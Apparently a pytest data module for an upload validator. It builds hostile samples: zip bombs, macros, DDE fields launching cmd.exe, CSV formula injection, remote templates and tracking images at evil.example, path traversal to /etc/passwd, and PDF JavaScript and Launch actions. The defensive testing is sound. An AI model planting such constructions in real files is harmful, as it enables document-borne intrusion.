"""Files that must not be kept, each with its name and what is said of it."""

import pytest
from pypdf.generic import (
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from tests.shared.files.rules.made_up import (
    archive,
    chunk,
    jpg,
    odt,
    office,
    packed_pdf,
    pdf,
    pdf_action,
    png,
    relation,
    workbook,
)


def attach(writer):
    writer.add_attachment("inner.txt", b"hidden")


def lock(writer):
    writer.encrypt("secret")


def only_owner_locked(writer):
    writer.encrypt(user_password="", owner_password="secret")


def form(writer):
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/XFA"): TextStringObject("<xdp/>")}
    )


def field_code(code):
    runs = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in code)
    return (
        '<w:document xmlns:w="http://w"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"{runs}</w:p></w:document>"
    )


def with_overlong_zeros():
    return archive({"[Content_Types].xml": "<Types/>", "word/document.xml": b"\0" * 150_000_000})


def many_small_bombs():
    parts = {f"word/part{n}.bin": b"\0" * 4_900_000 for n in range(25)}
    return archive({"[Content_Types].xml": "<Types/>"} | parts)


def bomb_in_a_book():
    inner = archive({"[Content_Types].xml": "<Types/>", "xl/a.bin": b"\0" * 60_000_000})
    return office("pptx", parts={"ppt/embeddings/Sheet1.xlsx": inner})


def book_in_a_book():
    inner = archive({"xl/embeddings/Sheet1.xlsx": workbook()})
    return office("pptx", parts={"ppt/embeddings/Sheet1.xlsx": inner})


def encrypted_zip():
    data = bytearray(office())
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(mark) + (6 if mark[2] == 3 else 8)
        data[at] |= 1
    return bytes(data)


def lying_about_sizes():
    """The directory says one byte; the part unpacks to 60 MB."""
    data = bytearray(archive({"word/a.bin": b"\0" * 60_000_000}))
    at = data.find(b"PK\x01\x02")
    data[at + 24 : at + 28] = (1).to_bytes(4, "little")
    return bytes(data)


WORD_TYPE = "application/x.wordprocessingml.document.main+xml"


MACROS = "holds macros"


OBJECT = "embedded object"


FETCHES = "fetches something from elsewhere"


ENTITIES = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    '<w:document xmlns:w="http://w">&b;</w:document>'
)


HOSTILE = [
    pytest.param(lambda: b"", "a.pdf", "The file is empty", id="nothing at all"),
    pytest.param(lambda: b"x" * 20_000_001, "a.txt", "larger than 20 MB", id="too large"),
    pytest.param(lambda: b"MZ\x90\0", "a.pdf", "program or a script", id="a program called PDF"),
    pytest.param(lambda: b"\x7fELF\2", "a.docx", "program or a script", id="a Linux program"),
    pytest.param(lambda: b"#!/bin/sh\n", "a.txt", "program or a script", id="a shell script"),
    pytest.param(lambda: b"MZ", "a.pdf.exe", "not taken", id="two endings"),
    pytest.param(
        lambda: b"MZ", "report\u202efdp.exe", "not taken", id="a name that runs backwards"
    ),
    pytest.param(pdf, "a.docx", "the content is a PDF", id="a PDF called Word"),
    pytest.param(office, "a.xlsx", "is a Word document", id="Word called Excel"),
    pytest.param(workbook, "a.docx", "is an Excel workbook", id="Excel called Word"),
    pytest.param(png, "a.jpg", "is a PNG picture", id="a PNG called JPEG"),
    pytest.param(lambda: b"hello", "a.pdf", "is a plain text", id="text called PDF"),
    pytest.param(lambda: b"hello", "a.png", "is a plain text", id="text called PNG"),
    pytest.param(lambda: b"hello", "noending", "not taken", id="no ending"),
    pytest.param(lambda: b"\0\1\2\3", "a.txt", "cannot tell", id="bytes called text"),
    pytest.param(lambda: b"<svg onload='x()'/>", "a.svg", "can run script", id="SVG"),
    pytest.param(lambda: b"<svg onload='x()'/>", "a.txt", "can run script", id="SVG called text"),
    pytest.param(lambda: b" <!DOCTYPE html>", "a.csv", "can run script", id="a page called CSV"),
    pytest.param(lambda: b"x", "a.html", "can run script", id="a web page"),
    pytest.param(
        lambda: b"a,b\n=cmd|' /C calc'!A0,1\n", "a.csv", "start another program", id="a CSV command"
    ),
    pytest.param(
        lambda: b"a,\"@SUM(1+9)*cmd|' /C calc'!A0\"\n",
        "a.csv",
        "start another program",
        id="a CSV command in quotes",
    ),
    pytest.param(office, "a.docm", "can hold macros", id="a macro ending"),
    pytest.param(lambda: b"x", "a.doc", "older kind", id="an old ending"),
    pytest.param(
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.docx", "password", id="old or locked Office"
    ),
    pytest.param(lambda: office()[:-40], "a.docx", "damaged", id="a cut archive"),
    pytest.param(lambda: b"PK\x03\x04junk", "a.docx", "damaged", id="no archive at all"),
    pytest.param(encrypted_zip, "a.docx", "password", id="a locked part"),
    pytest.param(
        lambda: archive({"readme.txt": "hi"}), "a.docx", "no Office file", id="a plain archive"
    ),
    pytest.param(
        lambda: office(parts={"word/vbaProject.bin": b"x"}), "a.docx", MACROS, id="a macro"
    ),
    pytest.param(
        lambda: office(parts={"word/VBAPROJECT.bin": b"x"}), "a.docx", MACROS, id="a macro, shouted"
    ),
    pytest.param(
        lambda: archive(
            {
                "[Content_Types].xml": "<Types><Override ContentType="
                '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            }
        ),
        "a.docx",
        MACROS,
        id="a macro document with its ending changed",
    ),
    pytest.param(
        lambda: office(parts=relation("vbaProject", "x.bin", "Internal")),
        "a.docx",
        MACROS,
        id="a macro under another name",
    ),
    pytest.param(
        lambda: office(parts={"word/embeddings/oleObject1.bin": b"x"}),
        "a.docx",
        OBJECT,
        id="an embedded object",
    ),
    pytest.param(
        lambda: office(parts={"word/media/image1.png": b"MZ\x90"}),
        "a.docx",
        OBJECT,
        id="a program called a picture",
    ),
    pytest.param(
        lambda: office(parts={"word/media/run.exe": b"x"}),
        "a.docx",
        "program or a web page inside",
        id="a program inside",
    ),
    pytest.param(
        lambda: office(parts=relation("aFChunk", "x.htm", "Internal")),
        "a.docx",
        OBJECT,
        id="a web page folded in",
    ),
    pytest.param(
        lambda: office(parts=relation("attachedTemplate", "http://evil.example/t.dotm")),
        "a.docx",
        FETCHES,
        id="a template from the web",
    ),
    pytest.param(
        lambda: office(parts=relation("attachedTemplate", "file:///\\\\evil\\share\\t.dotm")),
        "a.docx",
        FETCHES,
        id="a template from another machine",
    ),
    pytest.param(
        lambda: office(parts=relation("image", "http://evil.example/beacon.png")),
        "a.docx",
        FETCHES,
        id="a picture that reports who opens it",
    ),
    pytest.param(
        lambda: office(parts=relation("oleObject", "http://evil.example/x")),
        "a.docx",
        OBJECT,
        id="a linked object",
    ),
    pytest.param(
        lambda: office(parts=relation("hyperlink", "javascript:alert(1)")),
        "a.docx",
        "not to a web page",
        id="a link that is script",
    ),
    pytest.param(
        lambda: office(parts=relation("hyperlink", "ms-msdt:/id")),
        "a.docx",
        "not to a web page",
        id="a link that starts a program",
    ),
    pytest.param(
        lambda: office(parts={"word/document.xml": field_code(' DDEAUTO c:\\\\cmd.exe "/k"')}),
        "a.docx",
        FETCHES,
        id="a field that starts a program, cut letter by letter",
    ),
    pytest.param(
        lambda: office(parts={"xl/externalLinks/externalLink1.xml": "<a/>"}),
        "a.docx",
        FETCHES,
        id="a linked workbook",
    ),
    pytest.param(
        lambda: office(parts={"word/document.xml": ENTITIES}),
        "a.docx",
        "document type",
        id="XML entities",
    ),
    pytest.param(
        lambda: office(parts={"word/document.xml": ENTITIES.encode("utf-16")}),
        "a.docx",
        "document type",
        id="XML entities in UTF-16",
    ),
    pytest.param(
        lambda: office(parts={"word/document.xml": "<w:a"}), "a.docx", "damaged", id="broken XML"
    ),
    pytest.param(
        lambda: office(parts={"../../etc/passwd": "x"}), "a.docx", "leads outside", id="a way out"
    ),
    pytest.param(
        lambda: office(parts={"..\\..\\x": "x"}), "a.docx", "leads outside", id="a way out, Windows"
    ),
    pytest.param(
        lambda: office(parts={"/etc/passwd": "x"}), "a.docx", "leads outside", id="an outright path"
    ),
    pytest.param(with_overlong_zeros, "a.docx", "far too large", id="a bomb"),
    pytest.param(many_small_bombs, "a.docx", "far too large", id="a bomb in many parts"),
    pytest.param(bomb_in_a_book, "a.pptx", "far too large", id="a bomb in a workbook inside"),
    pytest.param(book_in_a_book, "a.pptx", OBJECT, id="a workbook in a workbook inside"),
    pytest.param(lying_about_sizes, "a.docx", "far too large|damaged", id="sizes that lie"),
    pytest.param(
        lambda: office(parts={"word/inner.zip": archive({"a": "b"})}),
        "a.docx",
        "archive inside",
        id="an archive inside",
    ),
    pytest.param(
        lambda: archive({f"word/{n}.xml": "<a/>" for n in range(3_001)}),
        "a.docx",
        "more than 3,000 parts",
        id="too many parts",
    ),
    pytest.param(
        lambda: odt('<script:event-listener xlink:href="vnd:x"/>'), "a.odt", MACROS, id="ODT event"
    ),
    pytest.param(
        lambda: odt(**{"Basic/Standard/Module1.xml": "<a/>"}), "a.odt", MACROS, id="ODT macro"
    ),
    pytest.param(
        lambda: odt('<draw:image xlink:href="http://evil.example/b.png"/>'),
        "a.odt",
        FETCHES,
        id="ODT picture from the web",
    ),
    pytest.param(
        lambda: odt('<text:a xlink:href="vnd.sun.star.script:x"/>'),
        "a.odt",
        "not to a web page",
        id="ODT link that is script",
    ),
    pytest.param(lambda: odt("<draw:object-ole/>"), "a.odt", OBJECT, id="ODT object"),
    pytest.param(
        lambda: odt(**{"[Content_Types].xml": f'<T><O ContentType="{WORD_TYPE}"/></T>'}),
        "a.odt",
        "damaged",
        id="two kinds at once",
    ),
    pytest.param(
        lambda: pdf(pdf_action("/JavaScript", JS="app.alert(1)")),
        "a.pdf",
        "a script",
        id="PDF script",
    ),
    pytest.param(
        lambda: pdf(pdf_action("/Launch", F="cmd.exe")), "a.pdf", "start a program", id="PDF launch"
    ),
    pytest.param(
        lambda: pdf(pdf_action("/SubmitForm", F="http://evil.example")),
        "a.pdf",
        "sends data away",
        id="PDF form that sends",
    ),
    pytest.param(
        lambda: pdf(pdf_action("/URI", URI="file:///c:/x")),
        "a.pdf",
        "not to a web page",
        id="PDF link to a disk",
    ),
    pytest.param(lambda: pdf(attach), "a.pdf", "another file inside", id="PDF with a file inside"),
    pytest.param(lambda: pdf(form), "a.pdf", "can run script", id="PDF form of the old kind"),
    pytest.param(lambda: pdf(lock), "a.pdf", "password", id="PDF with a password"),
    pytest.param(
        lambda: pdf().replace(b"/Root", b"/J#61vaScript(app.alert(1))/Root"),
        "a.pdf",
        "a script",
        id="PDF script with a letter hidden",
    ),
    pytest.param(
        lambda: packed_pdf("<</S/JavaScript/JS(app.alert(1))>>"),
        "a.pdf",
        "a script",
        id="PDF script in a packed stream",
    ),
    pytest.param(
        lambda: pdf() + b"\n9 0 obj <</S/Launch/F(cmd.exe)>> endobj",
        "a.pdf",
        "start a program",
        id="PDF object that no table lists",
    ),
    pytest.param(lambda: pdf()[:200], "a.pdf", "damaged", id="a cut PDF"),
    pytest.param(lambda: b"%PDF-1.7\n" + b"[" * 100_000, "a.pdf", "damaged", id="a deep PDF"),
    pytest.param(
        lambda: b"%PDF-1.7\n" + b"stream\n" * 1_000_000, "a.pdf", "damaged", id="a PDF of streams"
    ),
    pytest.param(
        lambda: packed_pdf("").replace(b"/Filter/FlateDecode", b"/Filter/Fl", 1),
        "a.pdf",
        "damaged",
        id="a PDF packed in a way of the past",
    ),
    pytest.param(lambda: png()[:-10], "a.png", "damaged", id="a cut picture"),
    pytest.param(
        lambda: png(chunk(b"IDAT", b"x")).replace(b"IDATx", b"IDATy"),
        "a.png",
        "damaged",
        id="a picture with a wrong sum",
    ),
    pytest.param(lambda: jpg()[:60], "a.jpg", "damaged", id="a cut photograph"),
    pytest.param(lambda: b"\xff\xd8\xff", "a.jpg", "damaged", id="three bytes of a photograph"),
]
